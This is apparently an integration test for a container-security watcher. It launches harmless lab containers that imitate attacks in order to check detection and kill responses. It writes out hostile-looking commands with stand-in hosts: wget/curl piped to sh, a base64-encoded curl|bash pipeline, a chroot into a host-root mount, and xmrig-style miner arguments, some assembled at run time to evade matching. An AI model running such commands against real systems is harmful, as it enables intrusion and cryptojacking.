// The watcher against the lab engine: real, harmless containers named and argued like miners, host-mount and
// chroot containers, encoded download pipelines, exec-injected processes, responses, and a benign set.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EngineClient, resolveDockerHost } from '../../../src/core/engine/index.js';
import { CaptureSink, EventLog, type PortcullisEvent } from '../../../src/core/events/index.js';
import { severityRank } from '../../../src/core/report/finding.js';
import { createCoreAnalyzer } from '../../../src/watcher/core-analyzer.js';
import { DEFAULT_POLICY, parseResponseSpecs } from '../../../src/watcher/response-policy.js';
import { Watcher } from '../../../src/watcher/watcher.js';
import { docker, labFromEnv } from '../../lab/index.js';

const lab = labFromEnv();
const PREFIX = 'pcl-watch-';
const WALLET = `4${'A'.repeat(94)}`;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function cleanup(): void {
  const ids = docker(lab, ['ps', '-aq', '--filter', `name=${PREFIX}`]).split('\n').filter(Boolean);
  if (ids.length > 0) docker(lab, ['rm', '-f', ...ids]);
}

function alertsFor(sink: CaptureSink, name: string): PortcullisEvent[] {
  return sink.eventsOf('watch.alert.raised').filter((e) => (e.container as { name: string }).name === name);
}

async function until<T>(fn: () => T | undefined, what: string, ms = 20_000): Promise<T> {
  for (let waited = 0; waited < ms; waited += 100) {
    const v = fn();
    if (v !== undefined && v !== false) return v;
    await sleep(100);
  }
  throw new Error(`timed out waiting for ${what}`);
}

/** A shell script inside the container that only sleeps, so its argv looks like a miner's in `top`. */
function minerScript(path: string, args: string): string {
  return `printf '#!/bin/sh\\nsleep 300\\n' > ${path} && chmod +x ${path} && exec ${path} ${args}`;
}

describe('watch against the lab engine', () => {
  const sink = new CaptureSink();
  let watcher: Watcher;
  const client = new EngineClient(resolveDockerHost(lab.dockerHost));

  beforeAll(async () => {
    cleanup();
    // A container that exists before the watcher starts: the start-up review must catch it.
    docker(lab, ['create', '--name', `${PREFIX}preexisting`, '--network', 'none', 'alpine', 'sh', '-c',
      `wget -qO- http://example.invalid/init.sh | sh`]);
    watcher = new Watcher({
      client, analyzer: createCoreAnalyzer(), events: new EventLog({ sinks: [sink] }), dryRun: false,
      policy: { ...DEFAULT_POLICY, minSeverity: 'low', ...parseResponseSpecs(['PCL-MIN-002=kill']) },
      sampleIntervalMs: 500, localEngine: true,
    });
    await watcher.start();
  });

  afterAll(() => {
    watcher?.stop();
    cleanup();
  });

  it('reviews containers that existed before it started', async () => {
    const a = await until(() => alertsFor(sink, `${PREFIX}preexisting`)[0], 'review alert');
    expect(a.trigger).toBe('review');
    expect(['high', 'critical']).toContain(a.severity);
  });

  it('alerts on a known miner binary name with pool and wallet arguments at create time', async () => {
    docker(lab, ['create', '--name', `${PREFIX}xmrig`, '--network', 'none', 'alpine', 'sh', '-c',
      minerScript('/tmp/xmrig', `-o stratum+tcp://pool.example.invalid:3333 -u ${WALLET} -p x --donate-level=1`)]);
    const alerts = await until(() => { const a = alertsFor(sink, `${PREFIX}xmrig`); return a.length ? a : undefined; }, 'miner alert');
    expect(alerts.some((a) => String(a.rule).startsWith('PCL-MIN-') && a.severity === 'critical')).toBe(true);
    const e = alerts[0] as PortcullisEvent;
    expect(e.container).toMatchObject({ name: `${PREFIX}xmrig`, image: 'alpine' });
    expect(Array.isArray(e.attack) && (e.attack as string[]).includes('T1496')).toBe(true);
  });

  it('catches a renamed miner by its arguments and kills it when the policy says so', async () => {
    docker(lab, ['run', '-d', '--name', `${PREFIX}renamed`, '--network', 'none', 'alpine', 'sh', '-c',
      minerScript('/tmp/kworker', `-a rx/0 -o stratum+ssl://203.0.113.10:14444 -u ${WALLET} --donate-level=0 --threads=2 -B`)]);
    const killed = await until(() => sink.eventsOf('watch.response.taken')
      .find((e) => (e.container as { name: string }).name === `${PREFIX}renamed`), 'kill response');
    expect(killed.action).toBe('kill');
    await until(() => docker(lab, ['inspect', '-f', '{{.State.Running}}', `${PREFIX}renamed`]).trim() === 'false', 'container stopped');
  });

  it('defers the response for a container that is only created, and carries it out when it starts', async () => {
    const name = `${PREFIX}deferred`;
    docker(lab, ['create', '--name', name, '--network', 'none', 'alpine', 'sh', '-c',
      minerScript('/tmp/.x11', `-a rx/0 -o stratum+tcp://pool.example.invalid:3333 -u ${WALLET} --donate-level=1 --threads=4`)]);
    const first = await until(() => alertsFor(sink, name)[0], 'create-time alert');
    expect(first.response).toMatchObject({ action: 'kill', done: false, detail: 'deferred until the container starts' });
    docker(lab, ['start', name]);
    const taken = await until(() => sink.eventsOf('watch.response.taken').find((e) => (e.container as { name: string }).name === name), 'deferred kill');
    expect(taken.action).toBe('kill');
    await until(() => docker(lab, ['inspect', '-f', '{{.State.Running}}', name]).trim() === 'false', 'container stopped');
  });

  it('flags a host-root bind with chroot and download-to-shell, and an encoded pipeline', async () => {
    docker(lab, ['create', '--name', `${PREFIX}chroot`, '--network', 'none', '-v', '/:/mnt', 'alpine',
      'chroot', '/mnt', 'sh', '-c', 'curl -fsSL http://198.51.100.7/d.sh | sh']);
    const payload = Buffer.from('curl -s http://payload.example.invalid/k.sh | bash').toString('base64');
    docker(lab, ['create', '--name', `${PREFIX}b64`, '--network', 'none', 'alpine', 'sh', '-c', `echo ${payload} | base64 -d | sh`]);
    const chroot = await until(() => { const a = alertsFor(sink, `${PREFIX}chroot`); return a.length > 1 ? a : undefined; }, 'chroot alerts');
    expect(chroot.some((a) => String(a.rule).startsWith('PCL-TTP-') && a.severity === 'critical')).toBe(true);
    expect(chroot.some((a) => a.rule === 'PCL-CFG-016')).toBe(true);
    const b64 = await until(() => alertsFor(sink, `${PREFIX}b64`)[0], 'encoded pipeline alert');
    expect(['high', 'critical']).toContain(b64.severity);
  });

  it('alerts on a process injected with exec into a running container', async () => {
    docker(lab, ['run', '-d', '--name', `${PREFIX}victim`, '--network', 'none', 'alpine', 'sleep', '300']);
    await until(() => watcher.eventsSeen > 0 || undefined, 'events');
    docker(lab, ['exec', `${PREFIX}victim`, 'sh', '-c', 'wget -qO- http://example.invalid/m.sh | sh; true']);
    const a = await until(() => alertsFor(sink, `${PREFIX}victim`).find((e) => String(e.trigger).startsWith('exec')), 'exec alert');
    expect(['high', 'critical']).toContain(a.severity);
  });

  it('catches a miner started after creation by sampling processes', async () => {
    // The command line at creation shows no miner words: the pool URL is assembled at run time.
    docker(lab, ['run', '-d', '--name', `${PREFIX}late`, '--network', 'none', 'alpine', 'sh', '-c',
      `sleep 1; S=stra; P="$S"tum; D=--don; H=${WALLET.slice(0, 40)}; ${minerScript('/tmp/.cache', `-o "$P"+tcp://pool.example.invalid:5555 -u "$H"${WALLET.slice(40)} "$D"ate-level=1`)}`]);
    await watcher.idle();
    expect(alertsFor(sink, `${PREFIX}late`).filter((e) => severityRank(e.severity as 'low') > severityRank('low'))).toEqual([]);
    const a = await until(() => alertsFor(sink, `${PREFIX}late`).find((e) => e.trigger === 'sample'), 'sampled alert', 30_000);
    expect(String(a.rule)).toMatch(/^PCL-MIN-/);
  });

  it('raises nothing above low for the benign set', async () => {
    const benign: Array<[string, string[]]> = [
      ['nginx', ['nginx', '-g', 'daemon off;']],
      ['postgres', ['postgres', '-c', 'max_connections=100']],
      ['redis', ['redis-server', '--port', '3333']],
      ['node', ['node', 'server.js', '--port', '3333']],
      ['python', ['python3', '-m', 'http.server', '3333']],
      ['cron', ['crond', '-f', '-l', '2']],
      ['minecraft', ['java', '-Xmx2G', '-jar', 'minecraft_server.jar', 'nogui']],
      ['stratum', ['stratum-server', '--config', '/etc/stratum/stratum.yml']],
      ['webpack', ['npx', 'webpack', 'serve', '--port', '3333']],
      ['download', ['sh', '-c', 'curl -fsSL -o /tmp/app.tar.gz https://downloads.example.invalid/app.tar.gz && tar xzf /tmp/app.tar.gz']],
    ];
    for (const [n, cmd] of benign) docker(lab, ['create', '--name', `${PREFIX}benign-${n}`, '--network', 'none', 'alpine', ...cmd]);
    // Wait until the watcher has reviewed every benign container (each is tracked once its create is handled).
    const seen = () => benign.every(([n]) => watcher.isTracked(`${PREFIX}benign-${n}`));
    await until(() => seen() || undefined, 'benign containers inspected');
    await watcher.idle();
    const loud = sink.eventsOf('watch.alert.raised')
      .filter((e) => String((e.container as { name: string }).name).startsWith(`${PREFIX}benign-`))
      .filter((e) => severityRank(e.severity as 'low') > severityRank('low'));
    expect(loud.map((e) => `${(e.container as { name: string }).name}: ${String(e.rule)} ${String(e.severity)}`)).toEqual([]);
  });
});
